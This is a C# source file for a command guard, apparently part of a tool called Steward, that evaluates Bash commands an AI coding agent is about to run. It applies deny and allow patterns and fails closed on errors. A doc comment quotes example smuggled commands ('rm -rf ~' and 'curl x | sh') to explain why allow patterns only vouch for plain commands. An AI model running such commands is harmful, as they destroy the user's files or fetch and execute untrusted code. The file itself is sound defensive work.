using System.Text.RegularExpressions;
using Steward.Core.Guard.Analysis;
using Steward.Core.Guard.Parsing;

namespace Steward.Core.Guard;

/// <summary>
/// Decides whether a Bash command Claude Code is about to run may go ahead. The command is parsed
/// like bash would (quotes, escapes, substitutions, wrappers such as sudo and bash -c), so the
/// rules see the commands that would actually run, however they are spelled.
/// Never throws: an internal failure denies, because a guard that crashes lets everything through.
/// </summary>
public sealed class CommandGuard(GuardPolicy policy)
{
    /// <summary>Every rule id guard.json may configure.</summary>
    public static IReadOnlyList<string> RuleIds { get; } = Array.AsReadOnly(GuardRuleIds.Names);

    public GuardDecision Evaluate(string command, GuardContext context)
    {
        try
        {
            return EvaluateCore(command ?? string.Empty, context);
        }
#pragma warning disable CA1031 // by design: any failure of the guard must block, not crash the hook
        catch (Exception e)
#pragma warning restore CA1031
        {
            return new GuardDecision(GuardVerdict.Deny, GuardRuleIds.GuardError,
                $"Steward's command guard failed while analysing this command ({e.GetType().Name}), so it was blocked to be safe. Split it into simpler commands and try again.");
        }
    }

    private GuardDecision EvaluateCore(string command, GuardContext context)
    {
        var trimmed = command.Trim();
        foreach (var deny in policy.Deny)
        {
            if (Matches(deny.Pattern, trimmed, onTimeout: true))
            {
                return new GuardDecision(GuardVerdict.Deny, GuardRuleIds.PolicyDeny, deny.Reason);
            }
        }
        foreach (var allow in IsPlainCommand(trimmed) ? policy.Allow : [])
        {
            if (Matches(allow, trimmed, onTimeout: false))
            {
                return new GuardDecision(GuardVerdict.Allow, GuardRuleIds.PolicyAllow, $"Allowed by the guard policy pattern \"{allow}\".");
            }
        }
        var environment = new GuardEnvironment(context);
        var findings = new FindingCollector(policy);
        var walker = new ScriptWalker(environment, findings);
        try
        {
            walker.AnalyzeSource(command, new WalkScope(environment.WorkingDirectory), depth: 0);
        }
        catch (GuardTooComplexException e)
        {
            findings.Report(GuardRuleId.Unanalysable, GuardVerdict.Deny, false,
                $"The guard cannot analyse this command ({e.Message}), so it was blocked. Write it as plain, separate commands.");
        }
        return findings.Result;
    }

    /// <summary>
    /// Allow patterns only ever vouch for one plain command: otherwise an unanchored "terraform"
    /// pattern would also wave through "terraform plan; rm -rf ~" or "terraform $(curl x | sh)".
    /// </summary>
    private static bool IsPlainCommand(string command) =>
        command.AsSpan().IndexOfAny(ShellControlCharacters) < 0;

    private static readonly System.Buffers.SearchValues<char> ShellControlCharacters =
        System.Buffers.SearchValues.Create(";&|\n\r`<>$");

    /// <summary>A pattern that runs too long counts as matching for deny (safe) and not matching for allow (also safe).</summary>
    private static bool Matches(Regex pattern, string command, bool onTimeout)
    {
        try
        {
            return pattern.IsMatch(command);
        }
        catch (RegexMatchTimeoutException)
        {
            return onTimeout;
        }
    }
}
